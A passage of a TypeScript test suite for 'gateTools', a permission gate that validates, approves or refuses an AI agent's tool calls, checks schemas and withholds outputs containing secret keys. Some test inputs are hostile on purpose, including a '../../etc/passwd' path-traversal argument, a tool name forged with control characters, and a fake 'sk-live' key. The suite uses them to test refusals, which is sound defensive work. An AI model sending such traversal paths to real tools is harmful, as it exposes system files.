      expect(error).toBeInstanceOf(AiSdkToolError);
      expect(error).toMatchObject({ code: "AI_SDK_TOOL", tool, message: expect.stringMatching(message) });
    }
    expect(fault(() => gateTools([tools.deploy] as never, gate))).toMatchObject({
      code: "AI_SDK_TOOL",
      message: expect.stringMatching(/an object of tools, not an array/),
    });
    for (const options of [null, "run-1", 7]) {
      expect(fault(() => gateTools(tools, gate, options as never))).toMatchObject({
        code: "AI_SDK_TOOL",
        message: expect.stringMatching(/options must be an object/),
      });
    }
    // A Map or a Set has no tools as its own keys: gated, it would be an empty tool set, and every call the SDK's
    // no-such-tool error.
    for (const [collection, kind] of [
      [new Map([["deploy", tools.deploy]]), "a Map"],
      [new Set([tools.deploy]), "a Set"],
    ] as const) {
      expect(fault(() => gateTools(collection as never, gate))).toMatchObject({
        code: "AI_SDK_TOOL",
        tool: "*",
        message: expect.stringContaining(`an object of tools, not ${kind}`),
      });
    }
    // A tool the gate could never describe (its name is empty): refused here, not at each of its calls without a record.
    expect(fault(() => gateTools({ "": tools.deploy } as never, gate))).toMatchObject({
      code: "AI_SDK_TOOL",
      tool: "",
      message: expect.stringMatching(/a tool's name must not be empty/),
    });
    const uuidLike = { toString: () => "00000000-0000-4000-8000-000000000000" };
    expect(fault(() => gateTools(tools, gate, { sessionId: uuidLike } as never))).toMatchObject({
      code: "AI_SDK_TOOL",
      message: expect.stringMatching(/sessionId must be a UUID/),
    });
    // A tool without execute (null or absent) is still left as it is.
    const clientSide = { description: "Answered by the UI", inputSchema: z.object({}), execute: null };
    expect(gateTools({ clientSide } as unknown as ToolSet, gate)["clientSide"]).toBe(clientSide);
  });

  it("an option gateTools does not take is refused, naming it, never ignored: a misspelt runId would count every run's calls under the nil run", () => {
    const { gate, tools } = harness();
    for (const [options, message] of [
      [{ runid: "00000000-0000-4000-8000-000000000000" }, "unknown option 'runid' (did you mean runId?)"],
      [{ sessionID: "00000000-0000-4000-8000-000000000000" }, "unknown option 'sessionID' (did you mean sessionId?)"],
      [{ refusal: "error-text" }, "unknown option 'refusal' (did you mean refusals?)"],
      [
        { signal: new AbortController().signal },
        "unknown option 'signal' (the options are sessionId, runId and refusals)",
      ],
    ] as const) {
      const error = thrownBy(() => gateTools(tools, gate, options as never));
      expect(error).toBeInstanceOf(AiSdkToolError);
      expect(error).toMatchObject({ code: "AI_SDK_TOOL", tool: "*", message: `tool '*': ${message}` });
    }
    expect(() =>
      gateTools(tools, gate, { runId: "00000000-0000-4000-8000-000000000000", refusals: "error-text" }),
    ).not.toThrow();
  });

  it("options are refused as every options object is: a string named never shown, an array, an AbortSignal, keys that cannot be listed", () => {
    const { gate, tools } = harness();
    const { proxy, revoke } = Proxy.revocable({}, {});
    revoke();
    for (const [options, message] of [
      ["00000000-0000-4000-8000-000000000000", "options must be an object, got a string"],
      [[], "options must be an object, got an array"],
      [new AbortController().signal, "options must be an object, got an AbortSignal"],
      [proxy, "options cannot be read: Cannot perform 'IsArray' on a proxy that has been revoked"],
    ] as const) {
      const error = thrownBy(() => gateTools(tools, gate, options as never));
      expect(error, message).toBeInstanceOf(AiSdkToolError);
      expect(error, message).toMatchObject({ code: "AI_SDK_TOOL", tool: "*", message: `tool '*': ${message}` });
    }
  });

  it("a getter that throws (of the tool set, a tool or the options) is an AiSdkToolError naming what could not be read, not the getter's own error", () => {
    const { gate } = harness();
    const boom = (): never => {
      throw new Error("boom");
    };
    const schema = z.object({});
    for (const [tools, options, tool, message] of [
      [
        {
          get deploy() {
            return boom();
          },
        },
        {},
        "*",
        "the tool set cannot be read: boom",
      ],
      [
        {
          deploy: {
            inputSchema: schema,
            get execute() {
              return boom();
            },
          },
        },
        {},
        "deploy",
        "execute cannot be read: boom",
      ],
      [
        {
          deploy: {
            inputSchema: schema,
            execute: async () => "x",
            get description() {
              return boom();
            },
          },
        },
        {},
        "deploy",
        "description cannot be read: boom",
      ],
      [
        {
          deploy: {
            inputSchema: schema,
            execute: async () => "x",
            get toModelOutput() {
              return boom();
            },
          },
        },
        {},
        "deploy",
        "toModelOutput cannot be read: boom",
      ],
      [
        {
          deploy: {
            inputSchema: schema,
            execute: async () => "x",
            get outputSchema() {
              return boom();
            },
          },
        },
        {},
        "deploy",
        "outputSchema cannot be read: boom",
      ],
      [
        {},
        {
          get runId() {
            return boom();
          },
        },
        "*",
        "options cannot be read: boom",
      ],
    ] as const) {
      const error = thrownBy(() => gateTools(tools as never, gate, options as never));
      expect(error, message).toBeInstanceOf(AiSdkToolError);
      expect(error, message).toMatchObject({ tool, message: `tool '${tool}': ${message}`, cause: { message: "boom" } });
    }
  });

  it("an AiSdkToolError shows a tool name holding a newline or a quote in JSON's escapes, a plain one as before", () => {
    const { gate } = recordingGate();
    const given = { description: 42, inputSchema: z.object({}), execute: async () => "ran" };
    for (const [name, shown] of [
      ["it's\n\u001b[31mforged", '"it\'s\\n\\u001b[31mforged"'],
      ["count", "'count'"],
    ] as const) {
      expect(() => gateTools({ [name]: given } as never, gate)).toThrow(
        `tool ${shown}: description must be a string, got 42`,
      );
    }
  });

  it("a description that is not a string is refused: by gateTools, naming the tool, and at a call of a tool changed since, with the call's one record", async () => {
    const { gate, records } = recordingGate();
    const executed: unknown[] = [];
    for (const inputSchema of [z.object({}), jsonSchema({ type: "object" })]) {
      const given = { description: 42, inputSchema, execute: async () => (executed.push("ran"), "ran") };
      expect(() => gateTools({ count: given } as never, gate)).toThrow(
        new AiSdkToolError("count", "description must be a string, got 42"),
      );
    }
    // Null is none, as the SDK reads it.
    const none = { description: null, inputSchema: z.object({}), execute: async () => (executed.push("ran"), "ran") };
    const plain = gateTools({ none } as never, gate) as unknown as Record<
      string,
      { execute: (...args: unknown[]) => unknown }
    >;
    expect(await plain["none"]!.execute({}, { toolCallId: "n1", messages: [] })).toBe("ran");
    expect(records).toMatchObject([{ tool: "none", verdict: "allow" }]);
    for (const inputSchema of [z.object({}), jsonSchema({ type: "object" })]) {
      records.length = 0;
      executed.length = 0;
      const tools = gateTools(
        { count: { description: "Counts", inputSchema, execute: async () => (executed.push("ran"), "ran") } },
        gate,
      );
      (tools.count as { description: unknown }).description = 42;
      await expect(tools.count.execute!({}, { toolCallId: "c1", messages: [] })).rejects.toThrow(
        new AiSdkToolError("count", "description must be a string, got 42"),
      );
      expect(records).toMatchObject([
        {
          tool: "count",
          verdict: "deny",
          ruleId: "schema",
          reason: "gateTools refused the call: tool 'count': description must be a string, got 42",
        },
      ]);
      expect(executed).toEqual([]);
    }
  });
});

describe("gateTools: validation by the tool's own schema", () => {
  const ids = z.object({
    id: z.cuid(),
    trace: z.ulid(),
    phone: z.e164(),
    token: z.base64(),
    hash: z.hash("sha256"),
  });
  const good = {
    id: "cjld2cjxh0000qzrmn831i7rn",
    trace: "01ARZ3NDEKTSV4RRFFQ69G5FAV",
    phone: "+14155552671",
    token: "aGk=",
    hash: "a".repeat(64),
  };

  it("a zod schema is validated by zod, as the SDK validates it: string formats Ajv does not know run; what zod refuses is refused", async () => {
    const executed: unknown[] = [];
    const descriptors: unknown[] = [];
    const { gate, records } = recordingGate(
      new LoopManagers().withMiddleware(async (_call, context, next) => (descriptors.push(context.descriptor), next())),
    );
    const tools = gateTools(
      {
        lookup: tool({
          description: "Look a record up",
          inputSchema: ids,
          execute: async (input) => (executed.push(input), "found"),
        }),
      },
      gate,
    );
    const model = new MockLanguageModelV3({ doGenerate: [v3([call("c1", "lookup", good)]), v3([text("done")])] });
    const result = await generateText({ model, tools, prompt: "look", stopWhen: stepCountIs(2) });
    expect(result.steps[0]!.toolResults).toMatchObject([{ toolCallId: "c1", output: "found" }]);
    expect(executed).toEqual([good]);
    expect(records).toMatchObject([{ verdict: "allow" }]);
    // The descriptor hooks see and grants pin is still the JSON Schema the model was shown.
    expect(descriptors).toEqual([
      { name: "lookup", description: "Look a record up", inputSchema: await asSchema(ids).jsonSchema },
    ]);

    // Arguments that reach the gate without the SDK's check are refused by zod's, before anyone is asked.
    const outcome = await tools.lookup.execute!({ ...good, id: "not a cuid" }, { toolCallId: "c2", messages: [] });
    expect(isToolRefusal(outcome)).toBe(true);
    expect(records[1]).toMatchObject({ verdict: "deny", ruleId: "schema", ruleSource: "engine" });
    expect(records[1]!.reason).toMatch(/^invalid arguments: \$\.id: /);
    expect(executed).toHaveLength(1);
  });

  it("a schema that checks only asynchronously still runs (the SDK ran its check first); the gate checks its JSON Schema", async () => {
    const { gate, records } = recordingGate();
    const positive = z.object({ n: z.number() }).refine(async ({ n }) => n > 0, "n must be positive");
    const tools = gateTools(
      { count: tool({ description: "", inputSchema: positive, execute: async ({ n }) => n }) },
      gate,
    );
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "count", { n: 2 }), call("c2", "count", { n: -1 })]), v3([text("done")])],
    });
    const result = await generateText({ model, tools, prompt: "count", stopWhen: stepCountIs(2) });
    expect(result.steps[0]!.toolResults).toMatchObject([{ toolCallId: "c1", output: 2 }]);
    expect(result.steps[0]!.content).toContainEqual(expect.objectContaining({ type: "tool-error", toolCallId: "c2" }));
    expect(records).toMatchObject([{ verdict: "allow" }]);
    const outcome = await tools.count.execute!({ n: "two" } as never, { toolCallId: "c3", messages: [] });
    expect(isToolRefusal(outcome)).toBe(true);
    expect(records[1]).toMatchObject({ verdict: "deny", ruleId: "schema" });
  });

  it("a schema with its own check whose JSON Schema Ajv cannot compile (zodSchema(), an async refinement) runs on that check; arguments it refuses are refused", async () => {
    const executed: unknown[] = [];
    const { gate, records } = recordingGate();
    const tools = gateTools(
      {
        wrapped: tool({
          description: "zodSchema()",
          inputSchema: zodSchema(ids),
          execute: async (input) => (executed.push(input), "found"),
        }),
        refined: tool({
          description: "an async refinement",
          inputSchema: ids.refine(async ({ id }) => id !== "cjld2cjxh0000qzrmn831i7rx", "that record is gone"),
          execute: async (input) => (executed.push(input), "found"),
        }),
      },
      gate,
    );
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "wrapped", good), call("c2", "refined", good)]), v3([text("done")])],
    });
    const result = await generateText({ model, tools, prompt: "look", stopWhen: stepCountIs(2) });
    expect(result.steps[0]!.toolResults).toMatchObject([
      { toolCallId: "c1", output: "found" },
      { toolCallId: "c2", output: "found" },
    ]);
    expect(executed).toEqual([good, good]);
    expect(records).toMatchObject([{ verdict: "allow" }, { verdict: "allow" }]);

    // Arguments that reach the gate without the SDK's check (a direct call) still fail closed.
    for (const [name, input] of [
      ["wrapped", { ...good, id: "not a cuid" }],
      ["refined", { ...good, id: "cjld2cjxh0000qzrmn831i7rx" }],
    ] as const) {
      const outcome = await tools[name].execute!(input, { toolCallId: `direct-${name}`, messages: [] });
      expect(isToolRefusal(outcome)).toBe(true);
    }
    expect(records.slice(2)).toMatchObject([
      { verdict: "deny", ruleId: "schema" },
      { verdict: "deny", ruleId: "schema" },
    ]);
    expect(executed).toHaveLength(2);
  });

  it("arguments a schema's own asynchronous check refuses are refused though its JSON Schema passes them: no hook sees them, the tool never runs", async () => {
    const executed: unknown[] = [];
    const seen: unknown[] = [];
    const { gate, records } = recordingGate(
      new LoopManagers().withHook({ preToolUse: (call) => (seen.push(call.input), { type: "allow" }) }),
    );
    const inside = (path: string): boolean => !path.split("/").includes("..");
    const run = async (input: unknown): Promise<string> => (executed.push(input), "read");
    const tools = gateTools(
      {
        refined: tool({
          description: "an async refinement",
          inputSchema: z.object({ path: z.string() }).refine(async ({ path }) => inside(path), "path leaves the root"),
          execute: run,
        }),
        wrapped: tool({
          description: "zodSchema() of a refinement",
          inputSchema: zodSchema(z.object({ path: z.string().refine(inside, "path leaves the root") })),
          execute: run,
        }),
        validated: tool({
          description: "jsonSchema() with a validate of its own",
          inputSchema: jsonSchema<{ path: string }>(
            { type: "object", properties: { path: { type: "string" } }, required: ["path"] },
            {
              validate: async (value) =>
                inside((value as { path: string }).path)
                  ? { success: true, value: value as { path: string } }
                  : { success: false, error: new Error("path leaves the root") },
            },
          ),
          execute: run,
        }),
        throwing: tool({
          description: "a validate that throws",
          inputSchema: jsonSchema<{ path: string }>(
            { type: "object", properties: { path: { type: "string" } }, required: ["path"] },
            {
              validate: async () => {
                throw new Error("the policy service is down");
              },
            },
          ),
          execute: run,
        }),
      },
      gate,
    );
    // Through the SDK, each check passes the model's arguments first.
    const model = new MockLanguageModelV3({
      doGenerate: [
        v3([
          call("c1", "refined", { path: "docs/a.md" }),
          call("c2", "wrapped", { path: "docs/a.md" }),
          call("c3", "validated", { path: "docs/a.md" }),
        ]),
        v3([text("done")]),
      ],
    });
    await generateText({ model, tools, prompt: "read", stopWhen: stepCountIs(2) });
    expect(executed).toHaveLength(3);
    // Called without the SDK's check, the tool's own check still decides.
    for (const name of ["refined", "wrapped", "validated", "throwing"] as const) {
      const outcome = await tools[name].execute!(
        { path: "../../etc/passwd" },
        { toolCallId: `d-${name}`, messages: [] },
      );
      expect(isToolRefusal(outcome), name).toBe(true);
    }
    expect(executed).toHaveLength(3);
    expect(seen).toHaveLength(3);
    expect(records.slice(3)).toMatchObject([
      { tool: "refined", verdict: "deny", ruleId: "schema", reason: "invalid arguments: $: path leaves the root" },
      { tool: "wrapped", verdict: "deny", ruleId: "schema", reason: "invalid arguments: $.path: path leaves the root" },
      { tool: "validated", verdict: "deny", ruleId: "schema", reason: "invalid arguments: $: path leaves the root" },
      {
        tool: "throwing",
        verdict: "deny",
        ruleId: "schema",
        reason: "invalid arguments: $: the tool's input schema failed: the policy service is down",
      },
    ]);
  });

  it("an abortSignal whose removeEventListener throws does not fail a call whose own check ran ahead of the gate", async () => {
    const executed: unknown[] = [];
    const { gate, records } = recordingGate();
    const tools = gateTools(
      {
        refined: tool({
          description: "an async refinement",
          inputSchema: ids.refine(async () => true),
          execute: async (input) => (executed.push(input), "found"),
        }),
      },
      gate,
    );
    const abortSignal = new AbortController().signal;
    Object.defineProperty(abortSignal, "removeEventListener", {
      value: () => {
        throw new Error("this signal keeps its listeners");
      },
    });
    const output = await tools.refined.execute!(good, { toolCallId: "c1", messages: [], abortSignal });
    expect(output).toBe("found");
    expect(executed).toEqual([good]);
    expect(records).toMatchObject([{ verdict: "allow" }]);
  });

  it("a cancel while the tool's own check runs ahead of the gate ends the call cancelled, with its one record; the tool never runs", async () => {
    const executed: unknown[] = [];
    const { gate, records } = recordingGate();
    const stuck = z.object({ n: z.number() }).refine(() => new Promise<boolean>(() => {}));
    const tools = gateTools(
      { count: tool({ description: "", inputSchema: stuck, execute: async ({ n }) => (executed.push(n), n) }) },
      gate,
    );
    const controller = new AbortController();
    const pending = Promise.resolve(
      tools.count.execute!({ n: 1 }, { toolCallId: "c1", messages: [], abortSignal: controller.signal }),
    );
    await flush();
    controller.abort();
    await expect(pending).rejects.toBeInstanceOf(CancelledError);
    expect(records).toMatchObject([{ verdict: "cancelled" }]);
    expect(executed).toEqual([]);
  });

  it("a hook's modify is validated by the tool's own schema too", async () => {
    const executed: unknown[] = [];
    const { gate, records } = recordingGate(
      new LoopManagers().withHook({
        preToolUse: (c) => ({ type: "modify", input: { ...(c.input as object), phone: "12" } }),
      }),
    );
    const tools = gateTools(
      { lookup: tool({ description: "", inputSchema: ids, execute: async (input) => (executed.push(input), "x") }) },
      gate,
    );
    const outcome = await tools.lookup.execute!(good, { toolCallId: "c1", messages: [] });
    expect(isToolRefusal(outcome)).toBe(true);
    expect(records).toMatchObject([{ verdict: "deny", ruleId: "schema" }]);
    expect(records[0]!.reason).toMatch(/\$\.phone: /);
    expect(executed).toEqual([]);
  });

  it("a JSON Schema with OpenAPI's example or an x- extension runs (annotations); one with a keyword Ajv does not know has every call refused, naming it", async () => {
    const { gate, records } = recordingGate();
    const executed: unknown[] = [];
    const search = (property: Record<string, unknown>) =>
      tool({
        description: "Search",
        inputSchema: jsonSchema<{ q: string }>({ type: "object", properties: { q: { type: "string", ...property } } }),
        execute: async (input) => (executed.push(input), "found"),
      });
    const tools = gateTools(
      { openapi: search({ example: "release" }), vendor: search({ "x-order": 1 }), typo: search({ maxLenght: 3 }) },
      gate,
    );
    for (const name of ["openapi", "vendor"] as const)
      expect(await tools[name].execute!({ q: "x" }, { toolCallId: name, messages: [] })).toBe("found");
    expect(isToolRefusal(await tools.typo.execute!({ q: "x" }, { toolCallId: "typo", messages: [] }))).toBe(true);
    expect(executed).toEqual([{ q: "x" }, { q: "x" }]);
    expect(records).toMatchObject([
      { tool: "openapi", verdict: "allow" },
      { tool: "vendor", verdict: "allow" },
      {
        tool: "typo",
        verdict: "deny",
        ruleId: "schema",
        reason: expect.stringContaining('unknown keyword: "maxLenght"'),
      },
    ]);
  });

  it("a call the SDK refuses before execute (unknown tool, input that fails its schema or is not JSON) never reaches the gate", async () => {
    const hooked: string[] = [];
    const { executed, records, gate, tools } = harness(
      new LoopManagers().withHook({ preToolUse: (c) => (hooked.push(c.id), { type: "allow" }) }),
    );
    const model = new MockLanguageModelV3({
      doGenerate: [
        v3([
          call("c1", "deploy", { env: 3, version: "1.2" }),
          call("c2", "undeploy", { env: "prod" }),
          call("c3", "deploy", "{not json"),
          call("c4", "deploy", { env: "prod", version: "1.2" }),
        ]),
        v3([text("done")]),
      ],
    });
    const result = await generateText({
      model,
      tools: gateTools(tools, gate),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    expect(
      result.steps[0]!.content.filter((part) => part.type === "tool-error").map((part) => part.toolCallId),
    ).toEqual(["c1", "c2", "c3"]);
    // Only the call the SDK let through met the gate: one hook run, one record.
    expect(hooked).toEqual(["c4"]);
    expect(records).toMatchObject([{ tool: "deploy", verdict: "allow" }]);
    expect(executed).toEqual([{ env: "prod", version: "1.2" }]);
  });
});

describe("gateTools: a hook's modify and a schema that checks asynchronously", () => {
  /** A hook that changes every call's `n` to `to`. */
  const setN = (to: number): Hook => ({ preToolUse: () => ({ type: "modify", input: { n: to } }) });
  const shape = z.object({ n: z.number() });
  const positive = shape.refine(async ({ n }) => n > 0, "n must be positive");
  /** A Standard Schema (not zod) whose validate answers only asynchronously; n === 13 makes it throw. */
  const standard = {
    "~standard": {
      version: 1,
      vendor: "hand-made",
      validate: async (value: unknown) => {
        const n = (value as { n?: unknown } | null)?.n;
        if (n === 13) throw new Error("validator exploded");
        return typeof n === "number" && n > 0
          ? { value: { n } }
          : { issues: [{ message: "n must be positive", path: ["n"] }] };
      },
      jsonSchema: { input: () => ({ type: "object", properties: { n: { type: "number" } }, required: ["n"] }) },
    },
  } as const;
  const schemas = {
    "a zod schema with an async refinement": positive,
    "the same wrapped by the SDK's zodSchema()": zodSchema(positive),
    "a Standard Schema whose validate is async": standard,
    "the SDK's jsonSchema() with an async validate": jsonSchema<{ n: number }>(
      { type: "object", properties: { n: { type: "number" } }, required: ["n"] },
      {
        validate: async (value) =>
          typeof (value as { n?: unknown }).n === "number" && (value as { n: number }).n > 0
            ? { success: true, value: value as { n: number } }
            : { success: false, error: new Error("n must be positive") },
      },
    ),
  };

  async function run(inputSchema: unknown, hook: Hook, n = 2) {
    const executed: unknown[] = [];
    const { gate, records } = recordingGate(new LoopManagers().withHook(hook));
    const tools = gateTools(
      {
        count: tool({
          description: "Counts",
          inputSchema: inputSchema as typeof shape,
          execute: async (input) => (executed.push(input), "counted"),
        }),
      },
      gate,
    );
    const model = new MockLanguageModelV3({ doGenerate: [v3([call("c1", "count", { n })]), v3([text("done")])] });
    const result = await generateText({ model, tools, prompt: "count", stopWhen: stepCountIs(2) });
    const sent = (model.doGenerateCalls[1]!.prompt.at(-1)!.content as { type: string; output?: unknown }[]).find(
      (part) => part.type === "tool-result",
    );
    return { executed, records, result, sent };
  }

  for (const [name, inputSchema] of Object.entries(schemas)) {
    it(`${name}: a modify it rejects is refused before the tool runs, and the model reads why`, async () => {
      const { executed, records, result, sent } = await run(inputSchema, setN(-5));
      expect(executed).toEqual([]);
      expect(records).toMatchObject([{ verdict: "deny", ruleId: "schema", ruleSource: "engine" }]);
      expect(records[0]!.reason).toMatch(/^invalid arguments from hook .*: \$.*n must be positive/);
      expect(isToolRefusal(result.steps[0]!.toolResults[0]!.output)).toBe(true);
      expect(sent).toMatchObject({
        output: { type: "execution-denied", reason: expect.stringMatching(/^Invalid arguments for tool 'count': /) },
      });
    });

    it(`${name}: a modify it accepts runs with exactly those arguments`, async () => {
      const { executed, records, result } = await run(inputSchema, setN(7));
      expect(executed).toEqual([{ n: 7 }]);
      expect(records).toMatchObject([{ verdict: "allow_modified" }]);
      expect(result.steps[0]!.toolResults).toMatchObject([{ toolCallId: "c1", output: "counted" }]);
    });
  }

  it("a modify the tool's schema would change (a default, a transform) is refused: the tool never gets arguments its schema did not make", async () => {
    const executed: unknown[] = [];
    // A safe default: a call that does not say otherwise is a dry run. The hook leaves dryRun out.
    const { gate, records } = recordingGate(
      new LoopManagers().withHook({ preToolUse: () => ({ type: "modify", input: { env: "PROD" } }) }),
    );
    const inputSchema = z.object({ env: z.string().toLowerCase(), dryRun: z.boolean().default(true) });
    const tools = gateTools(
      { deploy: tool({ description: "Deploys", inputSchema, execute: async (input) => (executed.push(input), "ok") }) },
      gate,
    );
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "staging" })]), v3([text("done")])],
    });
    const result = await generateText({ model, tools, prompt: "deploy", stopWhen: stepCountIs(2) });
    expect(executed).toEqual([]);
    expect(records).toMatchObject([{ verdict: "deny", ruleId: "schema", ruleSource: "engine" }]);
    expect(records[0]!.reason).toMatch(/^invalid arguments from hook .*the tool's schema changes them/);
    expect(isToolRefusal(result.steps[0]!.toolResults[0]!.output)).toBe(true);

    // A modify that gives the arguments as the schema makes them runs with exactly those.
    const { gate: exact } = recordingGate(
      new LoopManagers().withHook({
        preToolUse: (c) => ({ type: "modify", input: { ...(c.input as object), env: "prod" } }),
      }),
    );
    const again = gateTools(
      { deploy: tool({ description: "Deploys", inputSchema, execute: async (input) => (executed.push(input), "ok") }) },
      exact,
    );
    const next = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "staging" })]), v3([text("done")])],
    });
    await generateText({ model: next, tools: again, prompt: "deploy", stopWhen: stepCountIs(2) });
    expect(executed).toEqual([{ env: "prod", dryRun: true }]);
  });

  it("a validator that throws on the modified arguments refuses the call (fail closed)", async () => {
    const { executed, records, sent } = await run(standard, setN(13));
    expect(executed).toEqual([]);
    expect(records).toMatchObject([{ verdict: "deny", ruleId: "schema", ruleSource: "engine" }]);
    expect(records[0]!.reason).toMatch(/validator exploded/);
    expect(sent).toMatchObject({ output: { type: "execution-denied" } });
  });

  it("a cancel while the modified arguments are being checked ends the call cancelled, not run", async () => {
    const executed: unknown[] = [];
    let checking!: () => void;
    const started = new Promise<void>((resolve) => (checking = resolve));
    // The check of the changed arguments ({ n: 7 }) never answers.
    const stuck = shape.refine(async ({ n }) => {
      if (n !== 7) return true;
      checking();
      return new Promise<boolean>(() => {});
    });
    const { gate, records } = recordingGate(new LoopManagers().withHook(setN(7)));
    const tools = gateTools(
      { count: tool({ description: "", inputSchema: stuck, execute: async (input) => (executed.push(input), 1) }) },
      gate,
    );
    const controller = new AbortController();
    const running = tools.count.execute!({ n: 2 }, { toolCallId: "c1", messages: [], abortSignal: controller.signal });
    await started;
    controller.abort(new Error("user left"));
    await expect(running).rejects.toBeInstanceOf(CancelledError);
    expect(records).toMatchObject([{ verdict: "cancelled", ruleId: "cancel" }]);
    expect(executed).toEqual([]);
  });
});

describe("gateTools: streaming tools (async *execute)", () => {
  function streaming(log: string[]) {
    return {
      progress: tool({
        description: "Deploys in stages",
        inputSchema: z.object({ env: z.string() }),
        async *execute({ env }) {
          log.push(`started ${env}`);
          yield { stage: "building" };
          yield { stage: "pushing" };
          log.push(`finished ${env}`);
          yield { stage: "live", env };
        },
      }),
    };
  }

  it("generateText: the generator starts only after approval, runs inside the gate, and its last value is the output the model reads", async () => {
    const log: string[] = [];
    const records: GateDecision[] = [];
    const [channel, approver] = ApprovalChannel.pair(4);
    const gate = new Gate(
      new LoopManagers()
        .withHook(ask)
        .withAskResolver(channel)
        .withObserver({ onGate: ({ decision }) => (log.push(`record ${decision.verdict}`), records.push(decision)) }),
    );
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("g1", "progress", { env: "prod" })]), v3([text("live")])],
    });
    const running = generateText({
      model,
      tools: gateTools(streaming(log), gate),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    const parked = (await approver.next()) as PendingAsk;
    expect(parked).toMatchObject({ tool: "progress", callId: "g1" });
    expect(log).toEqual([]);
    approver.resolve(parked.id, { type: "approve" });
    const result = await running;
    expect(result.text).toBe("live");
    // The record lands after the tool ran to its end: the generator ran inside the gate.
    expect(log).toEqual(["started prod", "finished prod", "record ask_allowed"]);
    expect(result.steps[0]!.toolResults).toMatchObject([{ toolCallId: "g1", output: { stage: "live", env: "prod" } }]);
    expect(model.doGenerateCalls[1]!.prompt.at(-1)?.content).toEqual([
      {
        type: "tool-result",
        toolCallId: "g1",
        toolName: "progress",
        output: { type: "json", value: { stage: "live", env: "prod" } },
      },
    ]);
  });

  it("streamText: the tool's yields stream as preliminary results after approval; a refused generator never starts and the model reads the denial", async () => {
    const log: string[] = [];
    const guard: Hook = {
      preToolUse: (c) =>
        (c.input as { env?: string }).env === "prod" ? { type: "block", reason: "prod is frozen" } : { type: "allow" },
    };
    const gate = new Gate(new LoopManagers().withHook(guard));
    const model = new MockLanguageModelV3({
      doStream: [
        v3Stream([call("s1", "progress", { env: "staging" }), call("s2", "progress", { env: "prod" })]),
        v3Stream([text("staging only")]),
      ],
    });
    const result = streamText({
      model,
      tools: gateTools(streaming(log), gate),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    const parts: { type: string; toolCallId?: string; output?: unknown; preliminary?: boolean }[] = [];
    for await (const part of result.fullStream) parts.push(part);
    expect(await result.text).toBe("staging only");
    expect(log).toEqual(["started staging", "finished staging"]);
    const s1 = parts
      .filter((p) => p.type === "tool-result" && p.toolCallId === "s1")
      .map((p) => [p.preliminary === true, p.output]);
    expect(s1).toEqual([
      [true, { stage: "building" }],
      [true, { stage: "pushing" }],
      [true, { stage: "live", env: "staging" }],
      [false, { stage: "live", env: "staging" }],
    ]);
    const s2 = parts.filter((p) => p.type === "tool-result" && p.toolCallId === "s2" && p.preliminary !== true);
    expect(s2.map((p) => isToolRefusal(p.output))).toEqual([true]);
    expect(parts.some((p) => p.type === "tool-error")).toBe(false);
    expect(model.doStreamCalls[1]!.prompt.at(-1)?.content).toEqual([
      {
        type: "tool-result",
        toolCallId: "s1",
        toolName: "progress",
        output: { type: "json", value: { stage: "live", env: "staging" } },
      },
      {
        type: "tool-result",
        toolCallId: "s2",
        toolName: "progress",
        output: { type: "execution-denied", reason: "prod is frozen" },
      },
    ]);
  });

  it("streamText with a middleware: no yield reaches the stream or the UI before the middleware passed the output, so what it refuses never does", async () => {
    const log: string[] = [];
    // Refuses, after the tool ran, an output that carries a key.
    const noKeys: Middleware = async (_call, context, next) => {
      const result = await next();
      return result.type === "ran" && JSON.stringify(result.output).includes("sk-live")
        ? context.deny({ ruleId: "no-keys", message: "The output held a key; it was withheld" })
        : result;
    };
    const { gate, records } = recordingGate(new LoopManagers().withMiddleware(noKeys));
    const tools = {
      lookup: tool({
        description: "Looks a service up in stages",
        inputSchema: z.object({ service: z.string() }),
        async *execute({ service }) {
          log.push(`started ${service}`);
          yield { stage: "reading", service };
          yield service === "billing" ? { service, key: "sk-live-123" } : { service, status: "green" };
        },
      }),
    };
    const model = new MockLanguageModelV3({
      doStream: [
        v3Stream([call("k1", "lookup", { service: "billing" }), call("k2", "lookup", { service: "search" })]),
        v3Stream([text("done")]),
      ],
    });
    const result = streamText({ model, tools: gateTools(tools, gate), prompt: "check", stopWhen: stepCountIs(3) });
    const ui: unknown[] = [];
    const reading = (async () => {
      for await (const chunk of result.toUIMessageStream()) ui.push(chunk);
    })();
    const parts: { type: string; toolCallId?: string; output?: unknown; preliminary?: boolean }[] = [];
    for await (const part of result.fullStream) parts.push(part);
    await reading;
    expect(log).toEqual(["started billing", "started search"]);
    expect(JSON.stringify(parts)).not.toContain("sk-live");
    expect(JSON.stringify(ui)).not.toContain("sk-live");
    const results = parts.filter((p) => p.type === "tool-result");
    // With a middleware in the gate, the SDK gets the output the middleware passed, and nothing before it.
    expect(results.map((p) => [p.toolCallId, p.preliminary === true]).sort()).toEqual([
      ["k1", false],
      ["k2", false],
    ]);
    expect(isToolRefusal(results.find((p) => p.toolCallId === "k1")!.output)).toBe(true);
    expect(results.find((p) => p.toolCallId === "k2")!.output).toEqual({ service: "search", status: "green" });
    expect(records).toHaveLength(2);
    expect(records).toEqual(
      expect.arrayContaining([
        // The tool ran: its record says so, and why its output was withheld.
        expect.objectContaining({
          tool: "lookup",
          verdict: "allow",
          reason: "output withheld by middleware rule 'no-keys'",
        }),
        expect.objectContaining({ tool: "lookup", verdict: "allow", reason: null }),
      ]),
    );
    expect(model.doStreamCalls[1]!.prompt.at(-1)?.content).toMatchObject([
      { toolCallId: "k1", output: { type: "execution-denied", reason: "The output held a key; it was withheld" } },
      { toolCallId: "k2", output: { type: "json", value: { service: "search", status: "green" } } },
    ]);
  });

  it("an execute that returns an async iterable (not an async * function) is run to its end inside the gate; its last value is the output", async () => {
    const log: string[] = [];
    const records: GateDecision[] = [];
    const gate = new Gate(
      new LoopManagers().withObserver({
        onGate: ({ decision }) => (log.push(`record ${decision.verdict}`), records.push(decision)),
      }),
    );
    async function* stages(env: string): AsyncGenerator<string> {
      log.push(`started ${env}`);
      yield "building";
      log.push(`finished ${env}`);
      yield `live on ${env}`;
    }
    const tools = {
      progress: tool({
        description: "Deploys in stages",
        inputSchema: z.object({ env: z.string() }),
        execute: ({ env }) => stages(env),
      }),
    };
    const model = new MockLanguageModelV3({
